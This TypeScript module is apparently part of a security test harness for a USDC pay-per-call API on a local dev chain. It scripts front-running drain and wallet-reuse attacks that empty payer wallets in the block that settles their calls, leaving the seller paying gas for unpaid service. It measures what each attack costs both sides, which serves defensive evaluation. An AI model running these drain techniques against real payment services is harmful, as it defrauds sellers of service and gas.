import { setTimeout as wait } from 'node:timers/promises'
import { BASE } from '@tollbook/chain/network'
import { devUsdcAbi } from '@tollbook/devchain/contracts/abis'
import { encodeFunctionData, getContractAddress, type Hex } from 'viem'
import type { Attack, Costs } from './attack.ts'
import { usdOfGas, usdOfUsdc } from './prices.ts'
import { type Answer, countAnswers, type Order, send, signFor } from './send.ts'
import { compileSweeper, NONCE, packSweep, signTransfer } from './sweeper.ts'
import type { Spent, Wallet, World } from './world.ts'

const WALLETS = 4
const MAX_ATTEMPTS = 12
const CALLS_PER_WALLET = 8
const PRICE = 1_000n
const PURSE = PRICE * BigInt(CALLS_PER_WALLET)
/** Wallets that one transaction empties. */
const SWEPT = 8
/** Fewer are no attack: the dev chain mined the others' settlements before. */
const MIN_SWEPT = 4

/** The block that holds a wallet's settlements begins with a transfer that the wallet sends itself. */
export const drainInBlock: Attack = {
  name: 'drain-in-block',
  summary: 'wallets with 8 calls under way empty themselves at the front of the block that settles them',
  run: (world, note) =>
    drainOneByOne(world, note, async (bank, wallet, heir) => {
      // Moving its USDC takes ETH of its own.
      await bank.send({ to: wallet.address, value: 10n ** 16n, gas: 21_000n })
      return () => wallet.transfer(heir, PURSE)
    }),
}

/** The same, by a signature of the wallet that another wallet submits: it needs no ETH. */
export const drainRelayed: Attack = {
  name: 'drain-relayed',
  summary: 'the same, with a transfer that the wallet signs and another wallet submits',
  run: (world, note) =>
    drainOneByOne(world, note, async (bank, wallet, heir) => {
      const validBefore = BigInt(Math.floor(Date.now() / 1000) + 3_600)
      const terms = {
        from: wallet.address,
        to: heir,
        value: PURSE,
        validAfter: 0n,
        validBefore,
        nonce: NONCE,
      }
      const signature = await signTransfer(wallet, terms)
      const args = [wallet.address, heir, PURSE, 0n, validBefore, NONCE, signature] as const
      const data = encodeFunctionData({ abi: devUsdcAbi, functionName: 'transferWithAuthorization', args })
      return () => bank.send({ to: BASE.usdc, data, gas: 200_000n })
    }),
}

/** Wallets that settle together are emptied together, by signatures in one transaction. */
export const drainSwept: Attack = {
  name: 'drain-swept',
  summary: '8 wallets that settle in one batch are emptied by one transaction in front of it',
  async run(world, note) {
    const order = orderOf(world)
    const bank = await world.newWallet(PRICE)
    await bank.send({ data: compileSweeper(), gas: 500_000n })
    const sweeper = getContractAddress({ from: bank.address, nonce: 0n })
    await world.rpc.call('evm_mine')
    for (let attempt = 1; attempt <= MAX_ATTEMPTS; attempt += 1) {
      await world.fill(bank.address, PRICE)
      const wallets = Array.from({ length: SWEPT }, () => world.newKey())
      for (const { address } of wallets) await world.fill(address, PRICE)
      const payments = await signAll(order, [bank, ...wallets])
      const moves = wallets.map((payer) => ({ payer, heir: world.newKey().address }))
      const data = await packSweep(moves, PRICE)
      let answers: readonly Answer[] = []
      const spent = await world.measure(async () => {
        answers = await raceInBlock(world, {
          calls: payments.map((payment) => () => send(order, payment)),
          // The first payment settles alone, and the others gather behind it.
          isDecoyFirst: true,
          drain: () => bank.send({ to: sweeper, data, gas: 2_000_000n }),
        })
      })
      note(`attempt ${attempt}: ${countAnswers(answers)}, ${spent.sellerGas} gas of the seller`)
      const emptied = answers.filter(({ status }) => status === 402).length
      if (emptied >= MIN_SWEPT && spent.sellerGas > 0n) return toCosts(spent, answers, { wallets: SWEPT })
    }
    throw new Error('the dev chain mined its blocks too early each time')
  },
}

/** Wallets whose settlement has reverted are filled and used again. */
export const ringReused: Attack = {
  name: 'ring-reused',
  summary: 'a wallet whose settlement has reverted is filled and used again',
  async run(world, note) {
    const order = orderOf(world)
    const bank = await world.newWallet(0n)
    const wallet = await drainUntilDone(world, note, { bank, order })
    await world.fill(wallet.address, PURSE)
    let answers: readonly Answer[] = []
    const spent = await world.measure(async () => {
      const payments = await signAll(order, Array<Wallet>(CALLS_PER_WALLET).fill(wallet))
      const calls = payments.map((payment) => () => send(order, payment))
      answers = await Promise.all(calls.map((call) => call()))
    })
    note(countAnswers(answers))
    return toCosts(spent, answers, { wallets: 1 })
  },
}

/** Prepares the transaction that empties a wallet for its heir, and returns what sends it. */
type Prepare = (bank: Wallet, wallet: Wallet, heir: Hex) => Promise<() => Promise<unknown>>

async function drainOneByOne(world: World, note: (words: string) => void, prepare: Prepare): Promise<Costs> {
  const order = orderOf(world)
  const bank = await world.newWallet(0n)
  const answers: Answer[] = []
  const total = { sellerGas: 0n, attackerGas: 0n, sellerWei: 0n, received: 0n }
  let drains = 0
  for (let attempt = 1; attempt <= MAX_ATTEMPTS && drains < WALLETS; attempt += 1) {
    const drained = await drainOnce(world, { bank, order, prepare })
    note(`attempt ${attempt}: ${countAnswers(drained.answers)}`)
    // A block of the dev chain was mined before the drain and everything was paid: no attack.
    if (drained.spent.received > 0n) continue
    drains += 1
    answers.push(...drained.answers)
    total.sellerGas += drained.spent.sellerGas
    total.attackerGas += drained.spent.attackerGas
  }
  if (drains === 0) throw new Error('the dev chain mined its blocks too early each time')
  return toCosts(total, answers, { wallets: drains })
}

async function drainUntilDone(
  world: World,
  note: (words: string) => void,
  { bank, order }: { readonly bank: Wallet; readonly order: Order },
): Promise<Wallet> {
  for (let attempt = 1; attempt <= MAX_ATTEMPTS; attempt += 1) {
    const prepare: Prepare = async (_, wallet, heir) => {
      await bank.send({ to: wallet.address, value: 10n ** 16n, gas: 21_000n })
      return () => wallet.transfer(heir, PURSE)
    }
    const { wallet, spent, answers } = await drainOnce(world, { bank, order, prepare })
    note(`first time, attempt ${attempt}: ${countAnswers(answers)}`)
    if (spent.received === 0n) return wallet
  }
  throw new Error('the dev chain mined its blocks too early each time')
}

/** The purse is held, not spent: it moves on from wallet to wallet. */
async function drainOnce(
  world: World,
  { bank, order, prepare }: { readonly bank: Wallet; readonly order: Order; readonly prepare: Prepare },
) {
  const wallet = world.newKey()
  await world.fill(wallet.address, PURSE)
  const payments = await signAll(order, Array<Wallet>(CALLS_PER_WALLET).fill(wallet))
  let answers: readonly Answer[] = []
  const spent = await world.measure(async () => {
    const drain = await prepare(bank, wallet, world.newKey().address)
    answers = await raceInBlock(world, {
      calls: payments.map((payment) => () => send(order, payment)),
      isDecoyFirst: false,
      drain,
    })
  })
  return { wallet, answers, spent }
}

function orderOf(world: World): Order {
  return { url: `${world.utility}/api/calc?expr=1`, from: world.newAddress() }
}

async function signAll(order: Order, wallets: readonly Wallet[]): Promise<string[]> {
  const payments: string[] = []
  for (const wallet of wallets) {
    const payment = await signFor(order, wallet)
    if (payment !== null) payments.push(payment)
  }
  return payments
}

function toCosts(spent: Spent, answers: readonly Answer[], setting: { readonly wallets: number }): Costs {
  return {
    kind: 'costs',
    attackerUsd: usdOfGas(spent.attackerGas) + usdOfUsdc(spent.received),
    sellerUsd: usdOfGas(spent.sellerGas),
    receivedUsd: usdOfUsdc(spent.received),
    setting: {
      ...setting,
      calls: answers.length,
      answers: countAnswers(answers),
      sellerGas: Number(spent.sellerGas),
      attackerGas: Number(spent.attackerGas),
    },
  }
}

/** The queue counts as complete when no further settlement arrives for this long. */
const QUIET_MS = 100
/** Handlers that are behind the decoy are done after this time. */
const GATHER_MS = 300

type Race = {
  readonly calls: readonly (() => Promise<Answer>)[]
  /** Whether the first settlement is mined before the drain, so that the others gather behind it. */
  readonly isDecoyFirst: boolean
  readonly drain: () => Promise<unknown>
}

/** Sends the calls while mining is paused, and mines once their settlements are queued behind the drain. */
async function raceInBlock({ rpc }: World, { calls, isDecoyFirst, drain }: Race): Promise<readonly Answer[]> {
  // The dev chain mines at the start of each second.
  await wait(1_050 - (Date.now() % 1_000))
  await rpc.call('evm_setAutomine', [false])
  const done = new AbortController()
  const answers = Promise.all(calls.map((call) => call())).finally(() => done.abort())
  try {
    if (isDecoyFirst) {
      await untilPending(rpc, done.signal)
      await wait(GATHER_MS)
      await rpc.call('evm_mine')
      await untilPending(rpc, done.signal)
    } else await untilQueued(rpc, done.signal)
    if (!done.signal.aborted) {
      await drain()
      await rpc.call('evm_mine')
    }
  } finally {
    await rpc.call('evm_setAutomine', [true])
  }
  return answers
}

async function untilPending(rpc: World['rpc'], done: AbortSignal): Promise<void> {
  while (!done.aborted && (await countPending(rpc)) === 0) await wait(5)
}

async function countPending(rpc: World['rpc']): Promise<number> {
  return Number((await rpc.call<{ readonly pending: Hex }>('txpool_status')).pending)
}

async function untilQueued(rpc: World['rpc'], done: AbortSignal): Promise<void> {
  let pending = 0
  let sinceMs = performance.now()
  while (!done.aborted && (pending === 0 || performance.now() - sinceMs < QUIET_MS)) {
    const now = await countPending(rpc)
    if (now !== pending) sinceMs = performance.now()
    pending = now
    await wait(5)
  }
}
